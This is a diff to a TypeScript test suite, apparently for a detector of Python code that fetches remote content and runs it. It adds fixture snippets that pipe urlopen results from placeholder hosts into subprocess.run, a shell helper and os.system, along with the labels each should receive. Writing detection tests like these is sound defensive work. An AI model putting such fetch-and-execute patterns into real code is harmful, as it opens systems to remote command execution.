@@ -270,6 +270,39 @@ const MISTAKABLE: readonly Row[] = [
   ["a tree whose name is not known", PYTHON, `import os, shutil\nshutil.rmtree(os.path.join(a, b))\n`, ""],
 ];
 
+const CHOSEN: readonly Row[] = [
+  [
+    "one of a table is run",
+    PYTHON,
+    `${HTTP}T = {"a": ["df"], "b": ["uptime"]}\nsubprocess.run(T.get(urlopen("https://a.example.test/").read()))\n`,
+    "fetch",
+  ],
+  [
+    "one of a directory is run",
+    PYTHON,
+    `${HTTP}n = urlopen("https://a.example.test/").read()\nsubprocess.run(["/usr/lib/checks/" + n])\n`,
+    "fetch",
+  ],
+  [
+    "a fixed program is told something through a helper",
+    PYTHON,
+    `${HTTP}def sh(c):\n    return subprocess.run(c, shell=True)\n\nt = urlopen("https://a.example.test/").read()\nsh("git -C /srv/x checkout " + t)\n`,
+    "fetch",
+  ],
+  [
+    "a helper runs what comes first",
+    PYTHON,
+    `${HTTP}def sh(c):\n    return subprocess.run(c, shell=True)\n\nt = urlopen("https://a.example.test/").read()\nsh(t + " checkout x")\n`,
+    "fetch fetch-to-interpreter",
+  ],
+  [
+    "an object is made of it",
+    PYTHON,
+    `${HTTP}class W:\n    def __init__(self, t):\n        self.t = t\n    def run(self):\n        os.system(self.t)\n\nW(urlopen("http://192.0.2.7/t").read()).run()\n`,
+    "fetch fetch-to-interpreter",
+  ],
+];
+
 const GIVEN: readonly Row[] = [
   [
     "a shell is given it to read",
@@ -410,6 +443,7 @@ describe.each([
   ["files", FILES],
   ["libraries", LIBRARIES],
   ["given", GIVEN],
+  ["chosen", CHOSEN],
   ["mistakable", MISTAKABLE],
 ] as const)("%s", (_, rows) => {
   test.each(rows)("%s", (_what, interpreter, code, says) => {
